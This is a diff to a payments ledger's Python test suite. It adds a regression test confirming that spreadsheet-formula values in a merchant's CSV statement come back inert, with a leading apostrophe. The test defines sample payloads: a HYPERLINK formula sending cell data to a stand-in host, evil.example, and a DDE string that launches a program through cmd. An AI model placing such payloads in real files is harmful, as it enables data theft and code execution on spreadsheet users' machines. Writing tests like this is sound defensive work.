@@ -67,10 +67,11 @@ async def _top_up(gateway: Gateway, bank: TenantAccess, member_id: str, amount_f
 
 
 async def _pay(gateway: Gateway, tenant_id: str, *, merchant_id: str, legs: list[tuple[str, int]],
-               key: str | None = None, device_id: str = "pos-1") -> lpb.PayResponse:
+               key: str | None = None, device_id: str = "pos-1", external_ref: str = "") -> lpb.PayResponse:
     return await gateway.ledger_stub.Pay(lpb.PayRequest(  # type: ignore[attr-defined]
         tenant_id=tenant_id, idempotency_key=key or str(uuid.uuid4()), merchant_account_id=merchant_id,
         legs=[lpb.PayLeg(account_id=a, amount_fen=f) for a, f in legs], device_id=device_id,
+        external_ref=external_ref,
     ))
 
 
@@ -500,6 +501,48 @@ async def test_a_merchant_downloads_the_day_as_csv_with_its_totals(ledger_gatewa
     assert_problem(both, 400, reason="STATEMENT_SUBJECT_REQUIRED")
     assert_problem(await gateway.http.get(url, headers=merchant.headers, params={**query, "date": "26.11.2026"}),
                    422, reason="VALIDATION_FAILED")
+
+
+HOSTILE_REF = '=HYPERLINK("https://evil.example/?"&A2,"refund")'
+HOSTILE_KEY = "@SUM(1+1)*cmd|'/Ccalc'!A0"
+HOSTILE_DEVICE = "+pos-9"
+
+
+async def test_text_partners_sent_comes_back_inert_in_the_statement_and_amounts_stay_numbers(
+        ledger_gateway: Gateway) -> None:
+    """The attack: a payment's external_ref (and key, and device id) written as a formula came
+    back live in the merchant's CSV. Now each such cell is text with a leading apostrophe; the
+    refund's -500, a number the ledger computed, is not touched."""
+    gateway = ledger_gateway
+    bank, admin, merchant = await _accesses(gateway)
+    tenant_id = bank.tenant_id
+    member_id = await _member(gateway, tenant_id, "W750")
+    write = await _top_up(gateway, bank, member_id, 5_000)
+    (cash_id,) = [p["account_id"] for p in write["transfer"]["postings"] if p["amount_fen"] > 0]
+    canteen = await _open(gateway, admin, owner_kind="merchant", owner_id="canteen-9", purse_kind="merchant_settlement")
+    paid = (await _pay(gateway, tenant_id, merchant_id=canteen, legs=[(cash_id, 1_200)], key=HOSTILE_KEY,
+                       device_id=HOSTILE_DEVICE, external_ref=HOSTILE_REF)).transfer
+    refund = await gateway.http.post(f"/v1/tenants/{tenant_id}/payments/{paid.transfer_id}/refunds",
+                                     headers={**admin.headers, "Idempotency-Key": "-1+1"},
+                                     json={"amount_fen": 500, "external_ref": "-cold soup"})
+    assert refund.status_code == 201, refund.text
+
+    statement = await gateway.http.get(f"/v1/tenants/{tenant_id}/statements", headers=merchant.headers, params={
+        "merchant_account_id": canteen, "date": datetime.now(SHANGHAI).date().isoformat()})
+    assert statement.status_code == 200, statement.text
+    raw = statement.text.splitlines()
+    for line in raw[1:]:
+        for cell in next(csv.reader([line])):
+            assert not cell.startswith(("=", "+", "@", "\t", "\r")), line
+            assert not cell.startswith("-") or cell == "-500", line
+    by_kind = {line["kind"]: line for line in csv.DictReader(io.StringIO(statement.text))}
+    assert by_kind["payment"]["external_ref"] == "'" + HOSTILE_REF
+    assert by_kind["payment"]["idempotency_key"] == "'" + HOSTILE_KEY
+    assert by_kind["payment"]["device_id"] == "'" + HOSTILE_DEVICE
+    assert (by_kind["refund"]["external_ref"], by_kind["refund"]["idempotency_key"]) == ("'-cold soup", "'-1+1")
+    # The amounts are bare numbers in the file: the refund's line holds ,-500, unquoted.
+    (refund_line,) = [line for line in raw if refund.json()["transfer"]["transfer_id"] in line]
+    assert ",-500," in refund_line and ",1200," in next(line for line in raw if paid.transfer_id in line)
 
 
 # --- configuration, readiness and the not-yet-implemented ----------------------------------------
